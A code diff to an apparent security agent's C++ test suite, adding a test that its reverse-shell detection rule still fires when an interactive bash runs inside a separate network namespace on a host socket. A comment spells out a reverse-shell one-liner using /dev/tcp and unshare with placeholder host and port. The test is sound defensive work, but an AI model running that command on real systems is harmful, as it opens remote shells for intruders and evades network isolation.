@@ -17,6 +17,7 @@
 #include <netinet/in.h>
 #include <spawn.h>
 #include <sys/socket.h>
+#include <unistd.h>
 
 #include <cstring>
 
@@ -219,6 +220,43 @@ TEST(AgentSockets, AShellOnAConnectedSocketRaisesReverseShellSocketAndOneOnPipes
                       fmt::format("SELECT fd FROM process_open_sockets WHERE pid = {} AND fd IN (0, 1, 2)",
                                   pipe_shell.pid()))
                   .empty());
+
+  // The collection's socket counters reach status.json through procmond's status.
+  nlohmann::json sockets;
+  EXPECT_TRUE(eventually(
+      [&] {
+        const auto j = nlohmann::json::parse(slurp(f.var / "status.json"), nullptr, /*allow_exceptions=*/false);
+        if (!j.is_object() || !j.contains("procmond") || !j["procmond"]["status"].is_object()) return false;
+        sockets = j["procmond"]["status"].value("sockets", nlohmann::json());
+        return sockets.is_object();
+      },
+      30s))
+      << slurp(f.var / "status.json");
+  EXPECT_GE(sockets.value("rows", 0), 3) << sockets.dump();
+  EXPECT_EQ(sockets.value("truncated", -1), 0) << sockets.dump();
+  agent->signal(SIGTERM);
+  EXPECT_EQ(agent->wait(30s), 0) << slurp(f.log);
+}
+
+// `exec 3<>/dev/tcp/H/P; unshare -rn bash -i <&3 >&3`: the shell runs in a
+// network namespace of its own on a socket of the host's; procmond finds the
+// socket in the host's tables and the rule still fires.
+TEST(AgentSockets, AShellInAnotherNetworkNamespaceStillRaisesReverseShellSocket) {
+  if (::geteuid() != 0) GTEST_SKIP() << "needs root for unshare -n";
+  Fixture f;
+  Connection conn;
+  ASSERT_TRUE(conn.open()) << std::strerror(errno);
+  Spawned shell({"/usr/bin/unshare", "-n", "/bin/bash", "-i"}, conn.client.fd, conn.client.fd, conn.client.fd);
+  ASSERT_GT(shell.pid(), 0);
+  auto agent = f.start_agent();
+  const bool raised = eventually(
+      [&] {
+        for (const auto& a : f.alerts_of("reverse-shell-socket"))
+          if (a["row"].value("pid", -1) == shell.pid()) return true;
+        return false;
+      },
+      60s);
+  EXPECT_TRUE(raised) << "no reverse-shell-socket alert for pid " << shell.pid() << "; agent log:\n" << slurp(f.log);
   agent->signal(SIGTERM);
   EXPECT_EQ(agent->wait(30s), 0) << slurp(f.log);
 }
